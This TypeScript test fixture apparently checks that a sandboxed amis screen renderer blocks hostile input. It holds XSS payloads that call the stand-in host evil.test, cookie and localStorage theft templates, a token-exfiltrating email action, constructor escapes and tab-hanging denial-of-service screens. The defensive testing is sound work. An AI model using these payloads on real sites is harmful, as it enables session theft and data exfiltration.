/**
 * Hostile screens and hostile answers, drawn without the checker: what it would refuse, and answers, which it never
 * sees.
 */

export interface Attack {
  /** Body of the island, as in a screen. */
  body: unknown;
  /** Maximum time to draw, ms; default 40 s. */
  withinMs?: number;
  /** Draws each node of the body in an island of its own. */
  apart?: boolean;
  /** Answer of the source `x`: for `${source.x}` and the API `source:x`. */
  data?: unknown;
  /** Error message of the write source `save`. */
  refusal?: string;
  /** Selectors to click in order, if present. */
  click?: string[];
  /** Text that must appear; otherwise the attack tested nothing. */
  shows?: string;
  /** Selector to hover. */
  hover?: string;
}

export const EVIL = 'https://evil.test';
const JS = `window.hacked=1;fetch('${EVIL}/js')`;
const HTML =
  `<img src="x" onerror="${JS}"><svg onload="${JS}"><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg><script>${JS}</script>` +
  `<a href="javascript:${JS}" id="bait">诱饵</a><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><img src="${EVIL}/pixel">` +
  `<form action="${EVIL}/form"><button id="bait2">诱饵</button></form><style>@import url(${EVIL}/css);body{background:url(${EVIL}/bg)}</style>` +
  `<div style="background:url(${EVIL}/style)">x</div><video poster="${EVIL}/poster" src="${EVIL}/video"></video><link rel="stylesheet" href="${EVIL}/link">` +
  `<details open ontoggle="${JS}"><summary>x</summary></details><math><mi xlink:href="javascript:${JS}">x</mi></math><base href="${EVIL}/">`;
const FUNCTION = `function () { ${JS}; return 'x' }`;
const SVG = `<svg onload="${JS}"><script>${JS}</script><image href="${EVIL}/svg"/></svg>`;
const BAIT = ['#bait', '#bait2'];

const tpl = (text: string): unknown => ({ type: 'tpl', tpl: text });
const button = (more: object): unknown => ({ type: 'button', label: '按钮', className: 'press', ...more });
const pressed = (more: object): Attack => ({ body: button(more), click: ['.press'] });
const onEvent = (event: string, action: object): unknown => ({ [event]: { actions: [action] } });
const chart = (config: unknown, more: object = {}): unknown => ({
  type: 'chart',
  height: 200,
  width: 400,
  config,
  ...more,
});
const line = { xAxis: { type: 'category', data: ['a', 'b'] }, yAxis: {}, series: [{ type: 'line', data: [1, 2] }] };
const inForm = (...body: unknown[]): unknown => ({ type: 'form', title: '', body });
const service = (api: unknown, more: object = {}): unknown => ({ type: 'service', api, body: tpl('${x}'), ...more });

/** HTML in every place of a screen that shows text. */
const written: Record<string, Attack> = {
  tpl: { body: tpl(HTML), click: BAIT },
  'html prop': { body: { type: 'tpl', html: HTML }, click: BAIT },
  'html type': { body: { type: 'html', html: HTML }, click: BAIT },
  'raw prop': { body: { type: 'tpl', raw: HTML }, click: BAIT },
  'a text instead of a node': { body: HTML, click: BAIT },
  'alert body': { shows: '.antd-Alert', body: { type: 'alert', body: HTML, showIcon: true, icon: SVG }, click: BAIT },
  markdown: {
    shows: '.antd-Markdown',
    body: { type: 'markdown', value: `${HTML}\n\n[x](javascript:${JS})` },
    click: [...BAIT, 'a[href^="javascript"]'],
  },
  'markdown with html allowed': { body: { type: 'markdown', value: HTML, options: { html: true } }, click: BAIT },
  mapping: { shows: '.antd-MappingField', body: { type: 'mapping', value: 1, map: { 1: HTML } }, click: BAIT },
  tooltip: { body: button({ tooltip: { body: HTML, title: HTML } }), hover: '.press' },
  remark: { body: { type: 'remark', content: HTML }, hover: '.antd-Remark' },
  confirmText: pressed({ actionType: 'ajax', api: 'source:save', confirmText: HTML }),
  dialog: { ...pressed({ actionType: 'dialog', dialog: { title: HTML, body: HTML } }), click: ['.press', ...BAIT] },
  toast: pressed({ onEvent: onEvent('click', { actionType: 'toast', args: { msg: HTML } }) }),
  'option labels': {
    shows: '.antd-Checkbox',
    body: inForm(
      { type: 'checkboxes', name: 'a', options: [{ label: HTML, value: 1 }] },
      { type: 'select', name: 'b', options: [{ label: HTML, value: 1 }], menuTpl: HTML },
    ),
    click: ['.antd-Select', ...BAIT],
  },
  'field help': {
    shows: 'input',
    body: inForm({ type: 'input-text', name: 'a', label: HTML, description: HTML, hint: HTML, placeholder: HTML }),
    click: ['input', ...BAIT],
  },
  timeline: {
    shows: '.antd-TimelineItem',
    body: { type: 'timeline', items: [{ time: HTML, title: HTML, detail: HTML, icon: SVG }] },
    click: BAIT,
  },
  steps: {
    shows: '.antd-StepsItem',
    body: { type: 'steps', steps: [{ title: HTML, description: HTML, icon: SVG }] },
    click: BAIT,
  },
  property: {
    shows: 'table',
    body: { type: 'property', title: HTML, items: [{ label: HTML, content: HTML }] },
    click: BAIT,
  },
  carousel: {
    shows: '.antd-Carousel',
    body: { type: 'carousel', options: [{ html: HTML }, { title: HTML, image: `javascript:${JS}` }] },
    click: BAIT,
  },
  'svg icon': { body: { type: 'icon', icon: SVG } },
  'svg icon of a button': { body: button({ icon: SVG, rightIcon: SVG }) },
  'style with an address': {
    body: {
      type: 'container',
      style: { background: `url(${EVIL}/s)`, backgroundImage: `url("${EVIL}/s2")` },
      body: 'x',
    },
  },
  'style sheet of a page': {
    body: {
      type: 'page',
      css: { body: { background: `url(${EVIL}/css) !important` } },
      cssVars: { '--x': `url(${EVIL}/var)` },
      body: 'x',
    },
  },
  'theme style': {
    body: {
      type: 'container',
      id: 'u:1',
      themeCss: { baseControlClassName: { background: `url(${EVIL}/t)` } },
      wrapperCustomStyle: { root: { background: `url(${EVIL}/w)` } },
      body: 'x',
    },
  },
};

/** JavaScript in a screen. */
const programs: Record<string, Attack> = {
  'lodash template': { body: tpl(`<%= (${JS}) %>`) },
  'lodash block': { body: tpl(`<% ${JS} %>x`) },
  visibleOn: { body: { type: 'tpl', tpl: 'x', visibleOn: JS } },
  'hiddenOn through a constructor': {
    body: { type: 'tpl', tpl: 'x', hiddenOn: `this.constructor.constructor("${JS}")()` },
  },
  disabledOn: { body: button({ disabledOn: `data.x || (${JS.replace(';', ',')})` }) },
  classNameExpr: { body: { type: 'container', classNameExpr: `<%= (${JS}) %>`, body: 'x' } },
  'formula through a constructor': { body: tpl('${source.constructor.constructor("window.hacked=1")()}') },
  'formula on a function': {
    body: tpl(`\${ARRAYMAP([1], x => x.constructor.constructor("${JS.replaceAll("'", '`')}")())}`),
  },
  'custom action at the start': {
    body: { type: 'page', body: 'x', onEvent: onEvent('init', { actionType: 'custom', script: JS }) },
  },
  'custom action on a click': pressed({ onEvent: onEvent('click', { actionType: 'custom', script: JS }) }),
  'custom action inside another': pressed({
    onEvent: onEvent('click', { actionType: 'parallel', children: [{ actionType: 'custom', script: JS }] }),
  }),
  onClick: pressed({ onClick: JS }),
  'onError of a picture': { body: { type: 'avatar', src: 'x', onError: JS } },
  'onSelect of tabs': {
    body: {
      type: 'tabs',
      onSelect: JS,
      tabs: [
        { title: 'a', body: 'a' },
        { title: 'b', className: 'second', body: 'b' },
      ],
    },
    click: ['[role=tab] >> nth=1'],
  },
  adaptor: { body: service({ url: 'source:x', adaptor: JS }), data: { x: 1 } },
  requestAdaptor: { body: service({ url: 'source:x', requestAdaptor: JS }), data: { x: 1 } },
  dataProvider: { body: service(undefined, { dataProvider: JS }) },
  'dataProvider by event': { body: service(undefined, { dataProvider: { inited: JS } }) },
  schemaApi: { body: { type: 'service', schemaApi: `js:${EVIL}/schema.js` } },
  'API js:': { body: service(`js:${EVIL}/x.js`) },
  'API jsonp:': { body: service(`jsonp:${EVIL}/x`) },
  'API of another host': { body: service(`get:${EVIL}/x?name=\${user.name}`) },
  'API of this host': { body: service('get:/health') },
  'web socket': { body: service(undefined, { ws: 'wss://evil.test/x' }) },
  'chart: functions as texts': {
    shows: 'canvas',
    body: chart({ ...line, yAxis: { axisLabel: { formatter: FUNCTION } } }),
  },
  'chart: program as config': { body: chart(`(${FUNCTION})()`) },
  'chart: dataFilter': { shows: 'canvas', body: chart(line, { dataFilter: JS }) },
  'custom type': { body: { type: 'custom', html: HTML, onMount: JS, onUpdate: JS } },
  'iframe type': { body: { type: 'iframe', src: `javascript:${JS}` } },
  'iframe of another host': { body: { type: 'iframe', src: `${EVIL}/frame` } },
  'editor type': { body: inForm({ type: 'editor', name: 'a', editorDidMount: JS }) },
  'rich text type': { body: inForm({ type: 'input-rich-text', name: 'a', value: HTML, receiver: `${EVIL}/up` }) },
  'web-component type': { body: { type: 'web-component', tag: 'script', props: { src: `${EVIL}/w.js` } } },
  'formula type': { body: inForm({ type: 'formula', name: 'a', formula: JS, autoSet: true }) },
  'upload to another host': { body: inForm({ type: 'input-file', name: 'a', receiver: `${EVIL}/up` }) },
  'element of one’s own: script': { body: { component: 'script', src: `${EVIL}/c.js`, children: JS } },
  'element of one’s own: iframe': {
    body: { type: 'tpl', component: 'iframe', srcDoc: `<script>parent.hacked=1</script>` },
  },
  'element of one’s own: div with HTML': {
    body: { component: 'div', dangerouslySetInnerHTML: { __html: HTML } },
    click: BAIT,
  },
  wrapperComponent: { body: { type: 'container', wrapperComponent: 'script', bodyClassName: 'x', body: JS } },
  definitions: {
    body: {
      type: 'page',
      definitions: { evil: { type: 'tpl', component: 'iframe', src: `${EVIL}/d` } },
      body: { $ref: 'evil' },
    },
  },
  'amis inside amis': { body: { type: 'amis', value: { type: 'custom', onMount: JS } } },
  'language overwrite': {
    body: {
      type: 'tpl',
      tpl: 'x',
      'zh-CN': { component: 'iframe', src: `${EVIL}/l` },
      mobile: { component: 'iframe' },
    },
  },
};

/** Navigation away, and access to browser storage. */
const waysOut: Record<string, Attack> = {
  link: { body: { type: 'link', href: `javascript:${JS}`, body: 'x', className: 'press' }, click: ['a', '.press'] },
  'url action': pressed({ actionType: 'url', url: `javascript:${JS}` }),
  'url action by event': pressed({
    onEvent: onEvent('click', { actionType: 'url', args: { url: `javascript:${JS}` } }),
  }),
  'url action with a data address': pressed({ actionType: 'url', url: `data:text/html,<script>${JS}</script>` }),
  nav: {
    shows: '.antd-Nav',
    body: { type: 'nav', links: [{ label: 'x', to: `javascript:${JS}` }] },
    click: ['.antd-Nav a', '.antd-Nav-Menu-item'],
  },
  breadcrumb: {
    body: { type: 'breadcrumb', items: [{ label: 'x', href: `javascript:${JS}` }, { label: 'y' }] },
    click: ['a'],
  },
  saveAs: pressed({ actionType: 'saveAs', api: `${EVIL}/save` }),
  download: pressed({ actionType: 'download', api: `${EVIL}/download` }),
  email: pressed({ actionType: 'email', to: 'x@evil.test', subject: '${cookie:atelier_token}' }),
  'cookie:': { body: [tpl('${cookie:atelier_token}'), tpl("${cookie:&['atelier_token']}")] },
  'window:': {
    body: [
      tpl('${window:document.cookie}'),
      tpl("${window:&['document']['cookie']}"),
      tpl('${window:localStorage.secret}'),
    ],
  },
  'ls: and ss:': { body: [tpl('${ls:secret}'), tpl('${ss:secret}')] },
  'old variable syntax': {
    body: [
      tpl('$cookie:atelier_token'),
      { type: 'plain', text: '${ls:secret | raw}' },
      { type: 'static', name: 'a', value: '${cookie:atelier_token}' },
    ],
  },
  'loop action': {
    body: {
      type: 'page',
      body: 'x',
      onEvent: onEvent('init', {
        actionType: 'loop',
        args: { loopName: 'l' },
        children: [{ actionType: 'custom', script: JS }],
      }),
    },
  },
};

/** Valid screens with hostile answers. */
const answers: Record<string, Attack> = {
  'data through raw': { body: tpl('${source.x | raw}'), data: HTML, click: BAIT },
  'data with a default': { body: tpl("${source.x || '-'}"), data: HTML, click: BAIT },
  'data in a ternary': { body: tpl("${source.x ? source.x : '-'}"), data: HTML, click: BAIT },
  'data joined': { body: tpl("${'<b>' + source.x + '</b>'}"), data: HTML, click: BAIT },
  'data in a function': { body: tpl('${CONCATENATE(source.x, "")}'), data: HTML, click: BAIT },
  'data as a template': {
    body: [tpl('${source.x}'), { type: 'plain', text: '${source.x}' }],
    data: '${cookie:atelier_token}<%= window.hacked=1 %>',
  },
  'rich text in a list': {
    body: { type: 'each', source: '${source.x}', items: tpl('${item | raw}') },
    data: [HTML],
    click: BAIT,
  },
  'rows of a table': {
    shows: 'td',
    body: {
      type: 'crud',
      api: 'source:x',
      columns: [
        { name: 'a', label: 'a', type: 'tpl', tpl: '${a | raw}' },
        { name: 'a', label: 'b', type: 'link', href: '${b}' },
      ],
    },
    data: { list: [{ a: HTML, b: `javascript:${JS}` }], total: 1 },
    click: [...BAIT, 'td a'],
  },
  'columns of a table': {
    body: { type: 'crud', api: 'source:x' },
    data: {
      items: [{ a: 1 }],
      total: 1,
      columns: [
        { name: 'a', label: 'a', type: 'custom', onMount: JS },
        { name: 'a', label: HTML, component: 'iframe', src: `${EVIL}/col` },
      ],
    },
    click: BAIT,
  },
  'a body from an answer': {
    body: { type: 'service', api: 'source:x' },
    data: { type: 'page', body: { component: 'iframe', src: `${EVIL}/b` } },
  },
  'options of a select': {
    shows: '.antd-Select',
    body: inForm({ type: 'select', name: 'a', source: 'source:x' }),
    data: [{ label: HTML, value: 1 }],
    click: ['.antd-Select', ...BAIT],
  },
  'a tree': {
    shows: '.antd-Tree',
    body: inForm({ type: 'input-tree', name: 'a', source: 'source:x' }),
    data: [{ label: HTML, value: 1, icon: SVG }],
    click: BAIT,
  },
  'chart options': {
    shows: 'canvas',
    body: { type: 'chart', height: 200, api: 'source:x' },
    data: {
      ...line,
      tooltip: { trigger: 'axis', formatter: HTML },
      yAxis: { axisLabel: { formatter: FUNCTION } },
      title: { text: 'x', link: `javascript:${JS}` },
    },
    hover: 'canvas',
    click: ['canvas'],
  },
  'chart options by a variable': {
    shows: 'canvas',
    body: { type: 'chart', height: 200, source: '${source.x}' },
    data: {
      ...line,
      tooltip: { trigger: 'axis', formatter: FUNCTION },
      toolbox: { feature: { dataView: { optionToContent: FUNCTION } } },
    },
    hover: 'canvas',
  },
  'chart names in tooltips': {
    shows: 'canvas',
    body: { type: 'chart', height: 200, source: '${source.x}' },
    data: {
      ...line,
      tooltip: { trigger: 'axis' },
      xAxis: { type: 'category', data: [HTML, HTML] },
      series: [{ name: HTML, type: 'line', data: [1, 2] }],
    },
    hover: 'canvas',
  },
  'style from data': {
    body: { type: 'container', style: { background: '${source.x}' }, body: 'x' },
    data: `url(${EVIL}/style)`,
  },
  'link from data': { body: { type: 'link', href: '${source.x}', body: 'x' }, data: `javascript:${JS}`, click: ['a'] },
  'icon from data': { body: [button({ icon: '${source.x}' }), { type: 'icon', icon: '${source.x}' }], data: SVG },
  'markdown from data': { body: { type: 'markdown', value: '${source.x}' }, data: HTML, click: BAIT },
  'code from data': { shows: 'pre', body: { type: 'code', value: '${source.x}' }, data: HTML },
  'json from data': { shows: '.antd-JsonField', body: { type: 'json', source: '${source.x}' }, data: { a: HTML } },
  'refusal with HTML': { ...pressed({ actionType: 'ajax', api: 'source:save' }), refusal: HTML },
  'refusal with a template': {
    ...pressed({ actionType: 'ajax', api: 'source:save' }),
    refusal: '${cookie:atelier_token}<%= window.hacked=1 %>',
  },
  'refusal in a form': {
    body: { type: 'form', title: '', api: 'source:save', body: [{ type: 'input-text', name: 'a', label: 'a' }] },
    click: ['button[type=submit]'],
    refusal: HTML + '<%= window.hacked=1 %>',
  },
  'refusal in a list': { body: { type: 'service', api: 'source:refused', body: 'x' }, refusal: HTML },
};

const LEAK = `${EVIL}/leak?d=\${user.name}`;
const house = (...body: unknown[]): unknown => ({ type: 'house', body });
const row = (more: object): unknown =>
  house({ type: 'table', data: '${source.x}', columns: [{ field: 'a', title: 'a', ...more }] });
const scatter = (symbol: string): unknown =>
  chart({
    xAxis: {},
    yAxis: {},
    series: [
      {
        type: 'scatter',
        symbol,
        symbolSize: 20,
        data: [
          [1, 2],
          [2, 3],
        ],
      },
    ],
  });

/** Addresses of another host in places that load something: written, composed from data, and from an answer. */
const loaded: Record<string, Attack> = {};
const PLACES: Record<string, Omit<Attack, 'body'> & { at(address: string): unknown }> = {
  image: { at: (src) => ({ type: 'image', src, enlargeAble: true, originalSrc: src }) },
  'image that does not come': { at: (defaultImage) => ({ type: 'image', src: '/files/none.png', defaultImage }) },
  'static image': { at: (value) => inForm({ type: 'static-image', name: 'a', value }) },
  images: { at: (src) => ({ type: 'images', options: [{ image: src, src }, src] }) },
  avatar: {
    at: (src) => [
      { type: 'avatar', src },
      { type: 'avatar', icon: src },
      { type: 'avatar', src: '/files/none.png', defaultAvatar: src },
    ],
  },
  video: { shows: 'video', at: (src) => ({ type: 'video', src, poster: src }) },
  audio: { shows: '.antd-Audio', at: (src) => ({ type: 'audio', src, rates: [1, 2] }) },
  icons: {
    at: (icon) => [
      button({ icon, rightIcon: icon }),
      { type: 'icon', icon },
      { type: 'nav', links: [{ label: 'x', icon, to: '/home' }] },
      { type: 'timeline', items: [{ time: 'x', title: 'x', icon }] },
      { type: 'steps', steps: [{ title: 'x', icon }] },
    ],
  },
  carousel: { shows: '.antd-Carousel', at: (image) => ({ type: 'carousel', options: [{ image }] }) },
  card: {
    shows: '.antd-Card',
    at: (url) => ({
      type: 'card',
      header: { title: 'x', avatar: url },
      media: { type: 'image', url, position: 'left' },
      body: [],
    }),
  },
  qrcode: { at: (src) => ({ type: 'qrcode', value: 'x', imageSettings: { src, width: 20, height: 20 } }) },
  list: {
    at: (avatar) => ({
      type: 'list',
      source: '${source.rows}',
      data: { source: { rows: [{ a: 1 }] } },
      listItem: { avatar, title: 'x' },
    }),
  },
  'list-select': {
    at: (image) => inForm({ type: 'list-select', name: 'a', options: [{ label: 'x', value: 1, image }] }),
  },
  'chart symbols': { shows: 'canvas', at: (address) => scatter(`image://${address}`) },
  'chart graphics': {
    shows: 'canvas',
    at: (image) =>
      chart({ ...line, graphic: [{ type: 'image', left: 0, top: 0, style: { image, width: 50, height: 50 } }] }),
  },
  'chart backgrounds': {
    shows: 'canvas',
    at: (image) =>
      chart({
        ...line,
        backgroundColor: { image },
        xAxis: {
          type: 'category',
          data: ['a', 'b'],
          axisLabel: { formatter: '{a|}', rich: { a: { width: 20, height: 20, backgroundColor: { image } } } },
        },
      }),
  },
  markdown: {
    shows: '.antd-Markdown',
    at: (address) => ({ type: 'markdown', value: `![x](${address})\n\n![y][r]\n\n[r]: ${address}` }),
  },
  backgrounds: {
    at: (address) => [
      { type: 'container', style: { background: `url(${address})` }, body: 'x' },
      { type: 'wrapper', style: { backgroundImage: address }, body: 'x' },
    ],
  },
  'own picture': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'image', src }) },
  'own gallery': {
    shows: '.at-media-none',
    at: (src) => house({ type: 'media', kind: 'gallery', src: `\${SPLIT('${src}', ' ')}` }),
  },
  'own video': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'video', src }) },
  'own poster': {
    shows: 'video',
    at: (poster) => house({ type: 'media', kind: 'video', src: '/files/none.mp4', poster }),
  },
  'own sound': { shows: '.at-media-none', at: (src) => house({ type: 'media', kind: 'audio', src }) },
};
for (const [name, { at, ...more }] of Object.entries(PLACES)) {
  loaded[`${name}: written`] = { ...more, body: at(`${EVIL}/written`) };
  if (name !== 'own gallery') loaded[`${name}: with data`] = { ...more, body: at(LEAK) };
  if (name !== 'own gallery' && name !== 'static image')
    loaded[`${name}: from an answer`] = { ...more, body: at('${source.x}'), data: `${EVIL}/answer` };
}
const ROWS = [{ a: `${EVIL}/row`, b: `//evil.test/row2` }];
Object.assign(loaded, {
  'cells: image': { shows: '.at-table', body: row({ as: 'image' }), data: ROWS },
  'cells: avatar': { shows: '.at-table', body: row({ as: 'avatar', text: '${row.b}' }), data: ROWS },
  'cells: picture': { shows: '.at-table', body: row({ picture: '${row.a}' }), data: ROWS },
  'cells: picture with data': { shows: '.at-table', body: row({ picture: LEAK }), data: ROWS },
  'cells: amis': {
    shows: 'td',
    body: {
      type: 'crud',
      api: 'source:x',
      columns: [
        { name: 'a', label: 'a', type: 'image' },
        { name: 'b', label: 'b', type: 'avatar', src: '${b}' },
      ],
    },
    data: { list: ROWS, total: 1 },
  },
  'chart of an answer': {
    shows: 'canvas',
    body: { type: 'chart', height: 200, api: 'source:x' },
    data: {
      xAxis: {},
      yAxis: {},
      series: [{ type: 'scatter', symbol: `image://${EVIL}/symbol`, data: [[1, 2]] }],
      graphic: [{ type: 'image', style: { image: `${EVIL}/graphic`, width: 9, height: 9 } }],
    },
  },
} satisfies Record<string, Attack>);

/** Screens that the checker may accept but that would hang the tab. */
const each = (items: unknown, source: string): unknown => ({ type: 'each', source, items });
const HUNDRED = '${source.x}';
const HEAVY = '${COUNT(ARRAYMAP(source.x, a => COUNT(ARRAYMAP(source.x, b => a))))}';
export const HEAVY_SCREENS: Readonly<Record<string, Attack & { says: RegExp }>> = {
  'each in each in each': {
    body: each(each(each(tpl('x'), HUNDRED), HUNDRED), HUNDRED),
    data: Array.from({ length: 100 }, (_, id) => ({ id })),
    says: /内容过多/,
  },
  'lists of cards in lists of cards': {
    body: {
      type: 'cards',
      source: HUNDRED,
      card: {
        body: [
          {
            type: 'cards',
            source: HUNDRED,
            card: { body: [{ type: 'cards', source: HUNDRED, card: { body: [{ type: 'tpl', tpl: 'x' }] } }] },
          },
        ],
      },
    },
    data: Array.from({ length: 100 }, (_, id) => ({ id })),
    says: /内容过多/,
  },
  'a list that an expression makes': {
    body: each(tpl('x'), "${SPLIT(JOIN(ARRAYMAP(source.x, a => JOIN(ARRAYMAP(source.x, b => 'x'), ',')), ','), ',')}"),
    data: Array.from({ length: 1_000 }, (_, id) => ({ id })),
    says: /计算量过大|内容过多/,
  },
  'ARRAYMAP in ARRAYMAP in a thousand texts of amis': {
    body: Array.from({ length: 1_000 }, () => ({ type: 'plain', text: HEAVY })),
    data: Array.from({ length: 1_000 }, (_, id) => ({ id })),
    says: /计算量过大/,
  },
  'filters in a thousand texts of amis': {
    body: Array.from({ length: 1_000 }, () => ({
      type: 'plain',
      text: `\${source.x${" | join:',' | split:','".repeat(50)} | count}`,
    })),
    data: Array.from({ length: 1_000 }, (_, id) => id),
    says: /计算量过大/,
  },
  'ARRAYMAP in ARRAYMAP in a thousand nodes': {
    shows: '.at-node-crash',
    body: house(...Array.from({ length: 1_000 }, () => ({ type: 'text', text: HEAVY }))),
    data: Array.from({ length: 300 }, (_, id) => ({ id })),
    says: /计算量过大/,
  },
  'ARRAYMAP in ARRAYMAP in a thousand cells': {
    shows: '.at-table',
    body: house({
      type: 'table',
      data: '${source.x}',
      columns: Array.from({ length: 50 }, (_, at) => ({ title: `c${at}`, width: 40, text: HEAVY })),
    }),
    data: Array.from({ length: 300 }, (_, id) => ({ id })),
    says: /计算量过大/,
  },
};

const named = (kind: string, attacks: Record<string, Attack>): [string, Attack][] =>
  Object.entries(attacks).map(([name, attack]) => [`${kind}: ${name}`, attack]);

export const ATTACKS: readonly [name: string, attack: Attack][] = [
  ...named('written', written),
  ...named('program', programs),
  ...named('way out', waysOut),
  ...named('answer', answers),
  ...named('loaded', loaded),
];
